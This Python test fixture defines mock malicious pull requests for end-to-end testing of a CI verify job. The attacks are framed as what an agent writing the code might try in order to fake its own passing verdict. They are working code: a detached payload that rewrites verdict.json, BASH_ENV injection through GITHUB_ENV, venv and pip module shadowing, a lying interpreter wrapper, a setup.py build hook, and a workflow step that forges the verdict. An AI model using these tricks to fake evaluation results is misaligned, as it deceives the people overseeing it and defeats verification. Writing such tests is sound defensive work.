"""Pull requests that attack the verify job from the inside, for ``tests/test_act_e2e.py``.

Why: the publish workflow believes the artifact a verify run uploads once the run's workflow is
the trusted one, so everything rests on the verify job itself: no candidate code may run where
it can reach the verdict before the upload step copies it. Each seat here is what a determined
agent writing the pull request's code would try, aimed at a different place candidate code can
start in that job. All of them carry the slow ``calc.py`` (correct, 9 calls where the measured
gate allows 2), so the honest verdict is a fail and a forged pass is visible.

The payload (``forge.py``, committed by each attacker) waits for the verifier's
``candidate-<pr>/verdict.json`` in ``$RUNNER_TEMP/loop-contract-artifacts`` and rewrites it as
a pass that keeps every other key (head SHA, contract digest, nonce), says ``isolation:
sandbox`` and carries ``forged by <attack>`` in ``confinement.note``, which the test looks for
in what was uploaded. It detaches (new session, double fork) so it outlives whatever started
it, and gives up after a few minutes.
"""

from __future__ import annotations

from pathlib import Path

__all__ = ["ATTACKS", "EXECUTABLE", "FORGE", "FORGED", "SLOW", "forging_workflow"]

GOOD = "CALLS = 0\n\n\ndef add(a, b):\n    global CALLS\n    CALLS += 1\n    return a + b\n"
SLOW = GOOD.replace("CALLS += 1", "for _ in range(9):\n        CALLS += 1")
FORGED = "forged by "
"""The mark a forged verdict carries (in ``confinement.note``)."""

FORGE = r'''"""Rewrite the verifier's verdict as a pass (an attacker's payload)."""
import glob, json, os, sys, time

ARGS = [a for a in sys.argv[1:] if a != "--now"]
ATTACK = ARGS[0] if ARGS else "unknown"
NOW = "--now" in sys.argv


def forged(v):
    v = dict(v)
    v.update(verdict="pass", exit_code=0, reasons=[], isolation="sandbox")
    v["tamper"] = {"detected": False, "findings": []}
    for kind in ("hard", "measured"):
        for gate in (v.get("gates") or {}).get(kind) or []:
            gate["status"] = "pass"
            if "observed" in gate and "threshold" in gate:
                gate["observed"] = gate["threshold"]
    for item in v.get("dod") or []:
        item["status"] = "done"
    if isinstance(v.get("loop"), dict):
        v["loop"]["decision"] = "done"
    v["confinement"] = {"note": "forged by " + ATTACK, "leftovers": []}
    return v


def forge_all():
    temp = os.environ.get("RUNNER_TEMP") or "/tmp"
    hits = 0
    pattern = os.path.join(temp, "loop-contract-artifacts", "candidate-*", "verdict.json")
    for path in glob.glob(pattern):
        try:
            with open(path, encoding="utf-8") as f:
                v = json.load(f)
            if (v.get("confinement") or {}).get("note", "").startswith("forged by"):
                continue
            with open(path + ".tmp", "w", encoding="utf-8") as f:
                json.dump(forged(v), f)
            os.replace(path + ".tmp", path)
            hits += 1
        except (OSError, ValueError):
            pass
    return hits


def detach():
    """Leave the caller's session and process tree (the classic double fork)."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)


if NOW:
    forge_all()
else:
    detach()
    deadline, last = time.time() + 240, None
    while time.time() < deadline:
        if forge_all():
            last = time.time()
        if last is not None and time.time() - last > 60:
            break
        time.sleep(0.02)
'''

LAUNCH = (
    "import os, subprocess, sys\n"
    "_here = os.path.dirname(os.path.abspath(__file__))\n"
    "subprocess.run([sys.executable, os.path.join(_here, 'forge.py'), {attack!r}], check=False)\n"
)

# Candidate code proper: calc.py, imported by the tests inside the verifier's run. It starts
# the payload, writes a forged verdict wherever the verdict could be (the artifact folder, the
# verifier's old default, the workspace), and asks the runner to run its script before every
# later bash step (BASH_ENV through $GITHUB_ENV, the way a step sets variables for the next).
IN_RUN = (
    SLOW
    + "\n\n"
    + LAUNCH.format(attack="calc.py in the test run")
    + r"""
import glob as _glob, json as _json

_fake = {"verdict": "pass", "exit_code": 0, "confinement": {"note": "forged by calc.py writes"}}
_temp = os.environ.get("RUNNER_TEMP") or "/tmp"
_places = _glob.glob(os.path.join(_temp, "loop-contract-artifacts", "*", "verdict.json"))
_places += [os.path.join(_temp, "loop-contract-artifacts", "verdict.json")]
for _root in (os.getcwd(), os.environ.get("GITHUB_WORKSPACE") or os.getcwd()):
    _places.append(os.path.join(_root, ".loop-contract", "verdict.json"))
for _place in _places:
    try:
        os.makedirs(os.path.dirname(_place), exist_ok=True)
        with open(_place, "w", encoding="utf-8") as _f:
            _json.dump(_fake, _f)
    except OSError:
        pass
try:
    _hook = os.path.join(_temp, "forge-hook.sh")
    with open(_hook, "w", encoding="utf-8") as _f:
        _f.write("python3 %s/forge.py --now 'BASH_ENV from calc.py' || true\n"
                 % os.environ.get("GITHUB_WORKSPACE", _here))
    with open(os.environ["GITHUB_ENV"], "a", encoding="utf-8") as _f:
        _f.write("BASH_ENV=%s\n" % _hook)
except (KeyError, OSError):
    pass
"""
)

# ``python3 -m venv`` and ``python -m pip`` put the working folder (the candidate's checkout)
# first on sys.path: a venv.py or pip.py there runs instead of the standard module, then
# hands over to the real one so the step still succeeds.


def shadow(name: str) -> str:
    """``name``.py: start the payload, then run the standard module it hides."""
    return (
        LAUNCH.format(attack=f"{name}.py shadowing the standard module")
        + "sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]\n"
        + f"sys.modules.pop({name!r}, None)\n"
        + "import runpy\n"
        + f"runpy.run_module({name!r}, run_name='__main__', alter_sys=True)\n"
    )


# The verifier takes the test interpreter from <root>/.venv/bin/python when that exists, and
# asks it what it is before anything is confined.
INTERPRETER = """#!/bin/sh
here=$(cd "$(dirname "$0")/../.." && pwd)
python3 "$here/forge.py" '.venv/bin/python, the test interpreter' > /dev/null 2>&1
real="$RUNNER_TEMP/loop-contract-venv/bin/python"
if [ ! -x "$real" ]; then real=python3; fi
if [ "$1 $2 $3" = "-I -S -c" ]; then
  # the verifier asks what this is: name / as its prefix, so the sandbox binds it all back
  exec "$real" -I -S -c 'import json, platform, sys; print(json.dumps({"executable": sys.executable,
    "version": platform.python_version(), "implementation": sys.implementation.name,
    "base_prefix": "/"}))'
fi
exec "$real" "$@"
"""

# setuptools runs a setup.py beside pyproject.toml when it builds the project.
SETUP_PY = (
    LAUNCH.format(attack="setup.py at build time") + "\nfrom setuptools import setup\n\nsetup()\n"
)

ATTACKS: dict[str, dict[str, str]] = {
    "forger": {"calc.py": IN_RUN, "forge.py": FORGE},
    "shadow": {
        "calc.py": SLOW,
        "forge.py": FORGE,
        "venv.py": shadow("venv"),
        "pip.py": shadow("pip"),
    },
    "interp": {"calc.py": SLOW, "forge.py": FORGE, ".venv/bin/python": INTERPRETER},
    "setup": {"calc.py": SLOW, "forge.py": FORGE, "setup.py": SETUP_PY},
}
"""Seat -> the files its pull request changes (``.venv/bin/python`` is committed executable)."""

EXECUTABLE = {".venv/bin/python"}


def forging_workflow(verify_workflow: Path, attack: str) -> str:
    """The verify workflow with one more step before the upload: rewrite the verdict. What a
    pull request that brings (or edits) a workflow runs, since GitHub takes it from the PR."""
    text = verify_workflow.read_text("utf-8")
    upload = "      - uses: actions/upload-artifact@"
    assert text.count(upload) == 1, "the verify workflow's upload step moved"
    step = f"      - name: make it a pass\n        run: python3 forge.py --now {attack!r}\n"
    return text.replace(upload, step + upload)
